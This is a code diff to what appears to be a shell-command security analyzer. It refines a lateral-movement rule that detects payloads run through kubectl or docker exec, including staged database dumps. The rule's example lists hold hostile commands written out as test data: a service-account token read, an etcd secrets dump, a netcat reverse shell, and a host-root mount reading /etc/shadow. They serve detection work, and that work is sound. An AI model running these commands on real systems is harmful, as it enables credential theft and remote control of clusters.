@@ -1,6 +1,6 @@
 import { ruleAnalyzer, hasArg, hasShortFlag, operands, type AnalysisInput, type Rule } from '../rule.js';
 import type { SimpleCommand } from '../shell/types.js';
-import { classifyPath, inTemp, isStagingPath } from '../knowledge/paths.js';
+import { canonicalPath, classifyPath, hiddenInTemp, inTemp, isStagingPath } from '../knowledge/paths.js';
 import { destinationOf, EXFIL_KINDS } from '../knowledge/hosts.js';
 import { powershellCradle } from './command_and_control.js';
 
@@ -125,7 +125,8 @@ function payloadOf(cmds: readonly Cmd[]): string | undefined {
     const wiped = WIPERS(c) ? c.argv.slice(1).find((a) => WIPE_TARGET.test(a)) : undefined;
     if (wiped !== undefined) return `wipes ${wiped}: ${line}`;
     if ((c.name === 'dd' && c.argv.some((a) => a.startsWith('of=/dev/'))) || c.name.startsWith('mkfs') || c.name === 'wipefs') return `destroys a disk: ${line}`;
-    if (c.name === 'pg_dumpall' || c.name === 'mongodump' || (c.name === 'mysqldump' && hasArgv(c, '-A', '--all-databases')) || (c.name === 'etcdctl' && c.argv.includes('get'))) return `dumps a data store: ${line}`;
+    // etcd's keys are the cluster's secrets; other dumps are judged with where they go (remotePayload)
+    if (c.name === 'etcdctl' && c.argv.includes('get')) return `dumps the cluster store: ${line}`;
     for (const r of c.redirects) {
       const k = r.op.startsWith('>') ? classifyPath(r.target) : undefined;
       if (k?.role === 'exec-location') return `writes ${k.label}: ${line} ${r.op} ${r.target}`;
@@ -290,12 +291,23 @@ const FLEET = new Set(['ansible', 'salt', 'salt-ssh']);
 const CLOUD = new Set(['aws', 'az']);
 
 /** The payload run on other hosts by remote-execution commands of the given families. */
+/**
+ * A whole database dumped on the other side and kept under a hidden name in a temp directory: staged to
+ * leave. Through exec, a dump into `dump.sql` is how containerized databases are backed up.
+ */
+function stagedDump(outer: Cmd, remote: readonly Cmd[]): string | undefined {
+  const dump = remote.find((c) => c.name === 'pg_dumpall' || c.name === 'mongodump' || (c.name === 'mysqldump' && hasArgv(c, '-A', '--all-databases')));
+  if (!dump) return undefined;
+  const staged = [outer, ...remote].flatMap((c) => c.redirects).find((r) => r.op.startsWith('>') && hiddenInTemp(canonicalPath(r.target)));
+  return staged ? `dumps a data store into ${staged.target}: ${dump.argv.join(' ')}` : undefined;
+}
+
 function remotePayload(families: ReadonlySet<string>) {
   return (i: AnalysisInput): string | undefined => {
     for (const c of i.view?.commands ?? []) {
       if (!families.has(c.name)) continue;
       const parsed = remoteSide(i, c).filter((x) => x.origin !== 'line');
-      const p = (parsed.length ? payloadOf(parsed) : undefined) ?? (() => { const u = unparsedRemote(c); return u ? payloadOf(u.cmds) : undefined; })();
+      const p = (parsed.length ? payloadOf(parsed) : undefined) ?? (() => { const u = unparsedRemote(c); return u ? payloadOf(u.cmds) : undefined; })() ?? stagedDump(c, parsed);
       if (p) return `${c.name}: ${p}`;
     }
     return undefined;
@@ -330,7 +342,7 @@ export const RULES: readonly Rule[] = [
     id: 'PX-LATERAL-002', name: 'container-exec-runs-payload', score: 85, tactic: 'lateral_movement', technique: 'T1609', strong: true,
     message: 'Runs a payload, credential read or data dump inside a container or pod', why: 'Exec into a pod or container to read service-account tokens, dump databases or open shells moves the attack into the cluster.',
     check: remotePayload(CONTAINER),
-    examples: { fire: ["kubectl exec -it deploy/payments -n prod -- /bin/sh -c 'env; cat /var/run/secrets/kubernetes.io/serviceaccount/token'", 'kubectl exec -n kube-system etcd-master -- etcdctl get /registry/secrets --prefix', "kubectl run --image=alpine --restart=Never tmp -- sh -c 'nc 45.33.12.7 4444 -e /bin/sh'", "docker exec -u 0 prod-db bash -c 'pg_dumpall -U postgres' > /tmp/.dump.sql", "docker -H tcp://10.0.0.40:2375 run --rm -v /:/host alpine chroot /host sh -c 'cat /etc/shadow'"], quiet: ['kubectl exec -it api-0 -- sh', 'kubectl exec api-0 -n dev -- npm run migrate', 'docker exec -it db psql -U postgres', 'docker run --rm node:20 node -v'] },
+    examples: { fire: ["kubectl exec -it deploy/payments -n prod -- /bin/sh -c 'env; cat /var/run/secrets/kubernetes.io/serviceaccount/token'", 'kubectl exec -n kube-system etcd-master -- etcdctl get /registry/secrets --prefix', "kubectl run --image=alpine --restart=Never tmp -- sh -c 'nc 45.33.12.7 4444 -e /bin/sh'", "docker exec -u 0 prod-db bash -c 'pg_dumpall -U postgres' > /tmp/.dump.sql", "docker -H tcp://10.0.0.40:2375 run --rm -v /:/host alpine chroot /host sh -c 'cat /etc/shadow'"], quiet: ['kubectl exec -it api-0 -- sh', 'kubectl exec api-0 -n dev -- npm run migrate', 'docker exec -it db psql -U postgres', 'docker exec -t postgres pg_dumpall -c -U postgres > dump_$(date +%F).sql', 'docker exec web npm test', 'docker run --rm node:20 node -v'] },
   },
   {
     id: 'PX-LATERAL-003', name: 'fleet-tool-runs-payload', score: 88, tactic: 'lateral_movement', technique: 'T1072', strong: true,
